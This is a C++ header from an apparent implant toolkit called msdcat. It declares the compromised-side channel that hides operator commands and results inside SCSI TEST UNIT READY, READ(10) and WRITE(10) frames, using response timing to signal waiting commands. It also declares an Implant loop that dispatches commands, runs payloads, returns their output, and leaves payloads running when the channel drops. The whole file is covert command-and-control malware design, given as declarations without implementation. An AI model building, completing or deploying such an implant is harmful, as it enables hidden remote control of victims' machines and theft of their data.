#pragma once

// Compromised-side channel and datagram management.
//
// The channel polls with covert TEST UNIT READY frames. A response slower
// than the running baseline plus a fixed margin means the analyst has
// commands waiting; they are fetched with a covert READ(10). Results go
// back with covert WRITE(10) frames.

#include "msdcat/datagram.hpp"
#include "msdcat/payload_host.hpp"
#include "msdcat/transport.hpp"

#include <atomic>
#include <map>
#include <memory>
#include <stop_token>
#include <string>

namespace msdcat {

using namespace std::chrono_literals;

struct ChannelConfig {
  Duration poll_interval = 500ms;
  Duration detect_margin = 20ms;
  std::uint16_t fetch_blocks = 8;
  std::uint16_t max_write_blocks = 64;
  Duration poll_timeout = Transport::kDefaultTimeout;
  double ewma_alpha = 0.2;
};

struct PollObservation {
  Duration rtt{};
  Duration baseline_ewma{};  // baseline the decision was made against
  bool pending = false;
};

/// pending == rtt > baseline + margin.
bool is_pending(Duration rtt, Duration baseline, Duration margin);

struct ChannelCounters {
  std::uint64_t polls = 0;
  std::uint64_t pending = 0;
  std::uint64_t reads = 0;
  std::uint64_t writes = 0;
  std::uint64_t datagrams_in = 0;
  std::uint64_t datagrams_out = 0;
};

class Channel {
 public:
  Channel(Transport& transport, ChannelConfig config);

  /// Throws TransportClosed (also on Timeout, which desynchronises TCP).
  PollObservation poll_once();

  /// Covert READ(10) of `fetch_blocks`; throws MalformedDatagram.
  std::vector<Datagram> fetch_commands();

  /// Packs into the fewest blocks and issues covert WRITE(10)s of at most
  /// `max_write_blocks` each. Throws OversizedPayload before sending anything.
  void send_results(std::span<const Datagram> datagrams);

  /// Folds a poll that turned out to carry no commands into the baseline.
  void note_false_alarm(const PollObservation& obs);

  Duration baseline() const { return baseline_; }
  void seed_baseline(Duration baseline) {
    baseline_ = baseline;
    have_baseline_ = true;
  }
  const ChannelConfig& config() const { return config_; }
  ChannelCounters counters() const;

 private:
  ScsiResponse exchange(const ScsiExchange& x);
  void update_baseline(Duration rtt);

  Transport& transport_;
  ChannelConfig config_;
  Duration baseline_{};
  bool have_baseline_ = false;

  std::atomic<std::uint64_t> polls_{0}, pending_{0}, reads_{0}, writes_{0};
  std::atomic<std::uint64_t> datagrams_in_{0}, datagrams_out_{0};
};

enum class SessionState : std::uint8_t { Opening, Active, Closed };

const char* to_string(SessionState state);

struct Session {
  std::uint16_t session_id = 0;
  SessionState state = SessionState::Opening;
  std::uint16_t next_seq_out = 0;
  std::uint16_t expected_seq_in = 0;
  std::string payload_spec;
};

enum class LoopExit { Stopped, ChannelDown };

/// Runs the channel loop: poll, fetch and dispatch commands, ship payload
/// output. Transport loss ends the loop but leaves payloads running.
class Implant {
 public:
  static constexpr std::size_t kDrainBudget = 64 * 1024;

  Implant(std::unique_ptr<Transport> transport, PayloadHost& payloads, ChannelConfig config = {});
  ~Implant();

  LoopExit run(std::stop_token stop);

  /// One loop iteration. Returns true if commands were fetched.
  bool step();

  Channel& channel() { return channel_; }
  Transport& transport() { return *transport_; }
  std::map<std::uint16_t, Session> sessions() const;

 private:
  void dispatch(const Datagram& d);
  void on_open(const Datagram& d);
  void on_data(const Datagram& d);
  void on_close(const Datagram& d);
  void on_file(const Datagram& d);
  void collect_output();
  void drain_session(Session& s, std::size_t budget, bool final);
  void reply(Session& s, DatagramType type, std::string_view text);
  void reply_error(std::uint16_t id, std::string_view text);
  void flush();

  std::unique_ptr<Transport> transport_;
  PayloadHost& payloads_;
  Channel channel_;
  mutable std::mutex sessions_mu_;
  std::map<std::uint16_t, Session> sessions_;
  std::vector<Datagram> outbox_;
};

}  // namespace msdcat
